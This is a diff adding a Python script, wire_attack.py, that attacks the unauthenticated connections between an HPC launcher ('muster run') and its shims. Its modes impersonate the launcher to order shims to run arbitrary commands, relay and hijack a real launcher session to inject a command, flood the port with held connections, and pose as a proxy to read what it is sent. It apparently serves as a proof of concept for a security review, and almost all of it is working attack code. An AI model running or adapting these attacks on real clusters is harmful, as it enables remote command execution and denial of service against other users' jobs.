@@ -1,0 +1,153 @@
+"""Attacks on the connections between muster run and its shims, as another user of the machines.
+
+  wire_attack.py half HOST PORT                      connect and print what the launcher says by itself
+  wire_attack.py impostor PORT HALF COMMAND...       be the launcher for whoever calls at PORT: say HALF, then order COMMAND
+  wire_attack.py relay PORT HOST LAUNCHER COMMAND... pass everything on to the launcher, then order COMMAND in its place
+  wire_attack.py flood HOST PORT N                   hold N connections that say nothing; "holding" when they are there
+  wire_attack.py hydra HOST PORT                     be Hydra's proxy 0 and print what it is told
+
+The orders are messages as shims of muster took them in clear at commit 3a6d084.
+"""
+import select
+import socket
+import struct
+import sys
+import time
+
+
+def cbor(value):
+    """The few kinds that messages are made of (RFC 8949)."""
+    if value is None or value is True or value is False:
+        return {None: b"\xf6", True: b"\xf5", False: b"\xf4"}[value]
+    if isinstance(value, float):
+        return b"\xfb" + struct.pack(">d", value)
+    if isinstance(value, int):
+        major, number = (0x20, -1 - value) if value < 0 else (0x00, value)
+        return bytes([major | 0x1A]) + struct.pack(">I", number)
+    if isinstance(value, str):
+        data = value.encode()
+        return b"\x7a" + struct.pack(">I", len(data)) + data
+    return b"\x9a" + struct.pack(">I", len(value)) + b"".join(map(cbor, value))
+
+
+def frame(message):
+    data = cbor(message)
+    return struct.pack(">I", len(data)) + data
+
+
+def orders(command):
+    who = ["muster.x.1", 0, 1, 0, 1, 0, 1, "node", 0]
+    place = [None, None, None, 0, None, 1, 5, None, 0, True, [], [], [], ""]
+    environment = [["PATH", "/usr/bin:/bin"]]
+    rest = ["/", environment, [], "", False, False, False, False, "", "node", 5.0, 15.0, False]
+    return frame([1, who + place + [command] + rest]), frame([3, ["10.77.0.2", 20001, 20002, []]])
+
+
+def patient(connection, data):
+    try:
+        connection.sendall(data)
+        return True
+    except OSError:
+        return False
+
+
+def listen(port):
+    server = socket.socket()
+    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    server.bind(("", port))
+    server.listen(16)
+    print("listening", flush=True)
+    return server
+
+
+def give_orders(connection, command):
+    job, go = orders(command)
+    if patient(connection, job):
+        time.sleep(1)  # the shim places its rank; "go" would not be waited for
+        patient(connection, go)
+
+
+def impostor(port, half, command):
+    server = listen(port)
+    while True:
+        caller, _ = server.accept()
+        patient(caller, half.encode())
+        caller.settimeout(3)
+        try:
+            print("a shim said", len(caller.recv(4096)), "bytes", flush=True)
+        except OSError:
+            continue
+        give_orders(caller, command)
+
+
+def relay(port, host, launcher, command):
+    server = listen(port)
+    while True:
+        shim, _ = server.accept()
+        behind = socket.create_connection((host, launcher))
+        said = b""
+        while len(said) < 250:  # with the launcher's "job" it is more, before it less
+            ready, _, _ = select.select([shim, behind], [], [], 10)
+            data = [(one, one.recv(65536)) for one in ready]
+            if not data or any(not piece for _, piece in data):
+                break
+            for one, piece in data:
+                patient(shim if one is behind else behind, b"" if one is behind and len(said + piece) >= 250 else piece)
+                said += piece if one is behind else b""
+        print("passed on", len(said), "bytes", flush=True)
+        give_orders(shim, command)
+
+
+def flood(host, port, number):
+    held = []
+    for _ in range(number):
+        try:
+            held.append(socket.create_connection((host, port), timeout=2))
+        except OSError:
+            break
+    print("holding", len(held), flush=True)
+    while True:  # those that are closed come again
+        ready, _, _ = select.select(held, [], [], 1) if len(held) < 1000 else ([], [], [])
+        for one in ready:
+            held.remove(one)
+            one.close()
+            try:
+                held.append(socket.create_connection((host, port), timeout=2))
+            except OSError:
+                pass
+        if len(held) >= 1000:
+            time.sleep(1)
+
+
+def hydra(host, port):
+    proxy = socket.create_connection((host, port))
+    proxy.sendall(struct.pack("<i", 0))
+    proxy.settimeout(3)
+    try:
+        while data := proxy.recv(65536):
+            sys.stdout.buffer.write(data.replace(b"\0", b"\n"))
+            sys.stdout.flush()
+    except OSError:
+        pass
+
+
+def half(host, port):
+    launcher = socket.create_connection((host, port))
+    launcher.settimeout(2)
+    try:
+        print(launcher.recv(32).decode(errors="replace"))
+    except OSError:
+        print("0" * 32)  # it says nothing by itself
+
+
+what, rest = sys.argv[1], sys.argv[2:]
+if what == "half":
+    half(rest[0], int(rest[1]))
+elif what == "impostor":
+    impostor(int(rest[0]), rest[1], rest[2:])
+elif what == "relay":
+    relay(int(rest[0]), rest[1], int(rest[2]), rest[3:])
+elif what == "flood":
+    flood(rest[0], int(rest[1]), int(rest[2]))
+elif what == "hydra":
+    hydra(rest[0], int(rest[1]))
